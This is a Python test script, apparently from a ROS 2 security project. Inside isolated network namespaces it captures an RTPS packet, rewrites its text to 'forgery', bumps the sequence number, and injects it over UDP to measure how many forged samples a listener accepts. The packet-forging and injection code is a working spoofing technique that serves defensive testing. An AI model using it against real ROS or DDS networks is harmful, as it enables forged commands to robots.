# Copyright The vms_ph authors
# SPDX-License-Identifier: Apache-2.0

"""Forges samples of a topic, and sends them from another machine and from this one.

To be run in a network namespace of its own (``unshare -rn python forger.py``), which another one
joins by a cable; prints how many forged samples a node here received from each.
"""

import os
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).parents[3]
sys.path.insert(0, str(ROOT))
from vms_ph_embedded import activate  # noqa: E402

activate(ROOT)
import rclpy  # noqa: E402
from rclpy.node import Node  # noqa: E402
from rclpy.qos import qos_profile_sensor_data  # noqa: E402
from std_msgs.msg import String  # noqa: E402

GENUINE, FORGED = b"genuine\0", b"forgery\0"
_DATA = 0x15
_FIRST_PORT, _PORTS = 7410, 250
# Sends a packet to twenty ports: those of the first participants of a domain.
_SEND = """
import socket, sys
packet, address, first = bytes.fromhex(sys.argv[1]), sys.argv[2], int(sys.argv[3])
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in range(first, first + 20):
    sender.sendto(packet, (address, port))
"""


def talk() -> None:
    """Publish as another process of this machine does."""
    rclpy.init()
    node = Node("talker")
    publisher = node.create_publisher(String, "words", 10)
    while True:
        publisher.publish(String(data="genuine"))
        time.sleep(0.05)


def forged(packet: bytes, ahead: int) -> bytes | None:
    """Return an RTPS packet with another text and a later sequence number; None without text."""
    if packet[:4] != b"RTPS" or GENUINE not in packet:
        return None
    changed, at = bytearray(packet.replace(GENUINE, FORGED)), 20
    while at + 4 <= len(changed):
        kind, _, length = struct.unpack_from("<BBH", changed, at)
        if kind == _DATA:
            high, low = struct.unpack_from("<iI", changed, at + 16)
            struct.pack_into("<iI", changed, at + 16, high, low + ahead)
            return bytes(changed)
        at += 4 + length
    return None


def captured() -> bytes:
    """Return a packet of the talker."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as tap:
        tap.bind(("lo", 0))
        tap.settimeout(10.0)
        while True:
            frame = tap.recv(65536)
            packet = frame[14 + 4 * (frame[14] & 15) + 8 :]
            if forged(packet, 1) is not None:
                return packet


def main() -> None:
    """Print the number of forged samples from outside, and then with those from inside."""
    run: Callable[[str], object] = lambda line: subprocess.run(line.split(), check=True)  # noqa: E731
    run("ip link set lo up")
    outside = subprocess.Popen(["unshare", "-n", "sleep", "60"])
    talker = subprocess.Popen([sys.executable, __file__, "talk"])
    try:
        time.sleep(0.3)
        there = f"nsenter -t {outside.pid} -n "
        run(f"ip link add here type veth peer name there netns {outside.pid}")
        run("ip addr add 10.9.0.1/24 dev here")
        run("ip link set here up")
        run(there + "ip addr add 10.9.0.2/24 dev there")
        run(there + "ip link set there up")
        rclpy.init()
        node, heard = Node("listener"), list[str]()
        node.create_subscription(
            String, "words", lambda m: heard.append(m.data), qos_profile_sensor_data
        )
        while "genuine" not in heard:
            rclpy.spin_once(node, timeout_sec=0.1)
        packet = captured()
        counts = []
        for ahead, address, words in (
            (100_000, "10.9.0.1", there.split()),
            (200_000, "127.0.0.1", []),
        ):
            data = forged(packet, ahead)
            assert data is not None
            first = str(_FIRST_PORT + _PORTS * int(os.environ["ROS_DOMAIN_ID"]))
            sender = [*words, sys.executable, "-S", "-c", _SEND, data.hex(), address, first]
            subprocess.run(sender, check=True)
            for _ in range(20):
                rclpy.spin_once(node, timeout_sec=0.02)
            counts.append(heard.count("forgery"))
        print(*counts)
    finally:
        outside.kill()
        talker.kill()


if __name__ == "__main__":
    if sys.argv[1:2] == ["talk"]:
        talk()
    else:
        main()
